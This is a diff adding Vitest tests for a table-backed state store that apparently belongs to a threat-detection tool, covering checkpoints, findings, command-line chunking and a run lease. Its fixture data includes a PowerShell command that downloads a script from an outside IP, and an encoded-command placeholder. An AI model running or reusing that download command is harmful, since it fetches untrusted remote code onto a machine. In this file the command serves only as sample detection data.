@@ -1,0 +1,103 @@
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { startAzurite, type AzuriteTables } from '../../local/azurite/startAzurite.js';
+import { RunInProgressError } from '../../src/errors.js';
+import type { Finding } from '../../src/findings/finding.js';
+import { createStateTableClient, TableStateStore } from '../../src/state/tableStateStore.js';
+
+let azurite: AzuriteTables;
+let table = 0;
+
+function store(): TableStateStore {
+  table += 1;
+  return new TableStateStore(createStateTableClient({ connectionString: azurite.connectionString, tableName: `state${table}` }));
+}
+
+const finding: Finding = {
+  ip: '45.9.148.3',
+  version: 4,
+  hosts: ['ws1.contoso.com'],
+  accounts: ['CONTOSO\\alice'],
+  processes: ['powershell.exe'],
+  commandLines: ['powershell iwr http://45.9.148.3/a.ps1'],
+  commandLinesOmitted: 0,
+  encodings: ['dotted'],
+  firstSeen: new Date('2026-11-01T10:00:00Z'),
+  lastSeen: new Date('2026-11-01T11:00:00Z'),
+  eventCount: 3,
+};
+
+beforeAll(async () => {
+  azurite = await startAzurite();
+});
+afterAll(async () => {
+  await azurite?.close();
+});
+
+describe('TableStateStore', () => {
+  it('has no checkpoint before the first run and keeps the one it is given', async () => {
+    const s = store();
+    expect(await s.getCheckpoint()).toBeUndefined();
+    await s.setCheckpoint(new Date('2026-11-27T10:00:00Z'));
+    expect((await s.getCheckpoint())?.toISOString()).toBe('2026-11-27T10:00:00.000Z');
+  });
+
+  it('round-trips seen records, IPv6 keys included, and returns only the IPs asked for that exist', async () => {
+    const s = store();
+    const base = {
+      incidentId: 'a3c1e1d0-0000-5000-8000-000000000001',
+      generation: 0,
+      hosts: ['h1'],
+      accounts: ['a1'],
+      commandLines: ['x'],
+      firstReported: new Date('2026-11-01T00:00:00Z'),
+      lastReported: new Date('2026-11-01T00:00:00Z'),
+      lastSeen: new Date('2026-11-01T00:00:00Z'),
+    };
+    await s.putSeen([{ ...base, ip: '45.9.148.3' }, { ...base, ip: '2a00:1450:4001:82a::200e', generation: 2 }]);
+    const seen = await s.getSeen(['45.9.148.3', '2a00:1450:4001:82a::200e', '8.8.8.8']);
+    expect([...seen.keys()].sort()).toEqual(['2a00:1450:4001:82a::200e', '45.9.148.3']);
+    expect(seen.get('2a00:1450:4001:82a::200e')?.generation).toBe(2);
+    expect(seen.get('45.9.148.3')?.hosts).toEqual(['h1']);
+    expect(seen.get('45.9.148.3')?.lastSeen.toISOString()).toBe('2026-11-01T00:00:00.000Z');
+  });
+
+  it('splits command lines longer than one table property across chunks', async () => {
+    const s = store();
+    const long = 'powershell -enc ' + 'A'.repeat(70_000);
+    await s.putPending([{ ...finding, commandLines: [long, 'second'] }]);
+    const [back] = await s.getPending();
+    expect(back?.commandLines[0]).toBe(long);
+    expect(back?.firstSeen).toBeInstanceOf(Date);
+  });
+
+  it('keeps pending findings until they are deleted', async () => {
+    const s = store();
+    await s.putPending([finding, { ...finding, ip: '8.8.8.8' }]);
+    expect((await s.getPending()).map((f) => f.ip).sort()).toEqual(['45.9.148.3', '8.8.8.8']);
+    await s.deletePending(['8.8.8.8', '1.1.1.1']);
+    expect((await s.getPending()).map((f) => f.ip)).toEqual(['45.9.148.3']);
+  });
+
+  it('gives the run lock to one holder at a time and lets an expired lease be taken over', async () => {
+    const s = store();
+    const now = new Date('2026-11-27T12:00:00Z');
+    const lease = await s.acquireLease('timer', 60_000, now);
+    await expect(s.acquireLease('http', 60_000, now)).rejects.toBeInstanceOf(RunInProgressError);
+    await expect(s.acquireLease('http', 60_000, now)).rejects.toThrow(/run in progress: lock held by timer/i);
+    const later = new Date(now.getTime() + 61_000);
+    const takeover = await s.acquireLease('http', 60_000, later);
+    // The stale holder's release must not free the new holder's lock.
+    await lease.release();
+    await expect(s.acquireLease('cli', 60_000, later)).rejects.toBeInstanceOf(RunInProgressError);
+    await takeover.release();
+    const again = await s.acquireLease('cli', 60_000, later);
+    await again.release();
+  });
+
+  it('stores the last summary', async () => {
+    const s = store();
+    expect(await s.getLastSummary()).toBeUndefined();
+    await s.putLastSummary({ newIps: ['45.9.148.3'] });
+    expect(await s.getLastSummary()).toEqual({ newIps: ['45.9.148.3'] });
+  });
+});
